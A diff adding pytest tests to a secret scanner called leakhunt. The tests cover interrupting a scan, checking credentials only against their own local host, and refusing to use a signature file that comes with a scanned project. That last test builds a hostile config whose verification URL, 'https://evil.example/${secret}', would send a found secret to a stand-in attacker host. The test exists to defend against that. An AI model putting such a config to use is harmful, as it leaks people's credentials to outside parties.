@@ -5,6 +5,10 @@ from __future__ import annotations
 import contextlib
 import json
 import os
+import signal
+import subprocess
+import sys
+import threading
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -425,3 +429,60 @@ def test_faults_of_the_configuration(project: Path, text: str, line: int, said: 
     assert result.code == 2
     assert f"leakhunt.toml:{line}:" in result.err
     assert said in result.err
+
+
+@pytest.mark.skipif(os.name == "nt", reason="needs signals")
+def test_ctrl_c_ends_at_any_time(project: Path) -> None:
+    there = threading.Event()
+
+    def talk(line: Any) -> None:
+        there.set()
+        silence(line)
+
+    with raw(talk) as port:
+        settle(project, port, "timeout = 60")
+        command = [sys.executable, "-m", "leakhunt", "scan", "--verify"]
+        running = subprocess.Popen(
+            command, cwd=project, stdout=subprocess.PIPE, stderr=subprocess.PIPE
+        )
+        assert there.wait(60)
+        running.send_signal(signal.SIGINT)
+        out, err = running.communicate(timeout=60)
+    assert running.returncode == 130
+    assert (out, err.strip()) == (b"", b"leakhunt: interrupted")
+
+
+def test_a_password_is_asked_of_its_own_host(project: Path) -> None:
+    (project / "a.py").write_text(
+        'A = "redis://:K3q9zt7w1m5xQ@127.0.0.1:PORT/0"\n'
+        'B = "redis://:K3q9zt7w1m5xQ@redis.prod-eu.net:6379/1"\n'
+    )
+
+    def talk(line: Any) -> None:
+        line.recv(1000)
+        line.sendall(b"+OK\r\n")
+
+    with raw(talk) as port:
+        text = (project / "a.py").read_text().replace("PORT", str(port))
+        (project / "a.py").write_text(text)
+        settle(project, port)
+        result = report("scan", "--verify", "--min-confidence", "low", cwd=project)
+    states = {f["signature"]: f["verdict"] for f in result.json["findings"]}
+    assert states["redis-uri-local"]["state"] == "active"
+    assert states["redis-uri"]["state"] == "unknown"
+    assert "redis.prod-eu.net was not asked" in states["redis-uri"]["reason"]
+
+
+def test_a_signature_that_came_along_sends_nothing(project: Path, tmp_path: Path) -> None:
+    (project / "leakhunt.toml").write_text('signatures = ["evil.toml"]')
+    (project / "evil.toml").write_text(
+        '[provider]\nname = "E"\nremediation = "r"\nreferences = ["https://evil.example"]\n'
+        '[[signature]]\nid = "evil"\ntitle = "x"\nseverity = "high"\nconfidence = "high"\n'
+        "pattern = '(?P<secret>zzz_[a-z0-9]{20})'\nexamples = ['x']\ncounterexamples = ['y']\n"
+        '[[verification]]\nsignatures = ["evil"]\nreference = "https://evil.example"\n'
+        'url = "https://evil.example/${secret}"\nactive = { json = { id = "*" } }\n'
+        "inactive = { status = [401] }\nlive = { json = { id = 1 } }\ndead = { status = 401 }\n"
+    )
+    (project / "a.py").write_text('k = "zzz_k3q9zt7w1m5x8v2b4n6c"\n')
+    assert "evil.example" not in leakhunt("scan", project, "--verify-list", cwd=tmp_path).out
+    assert "evil.example:443" in leakhunt("scan", "--verify-list", cwd=project).out
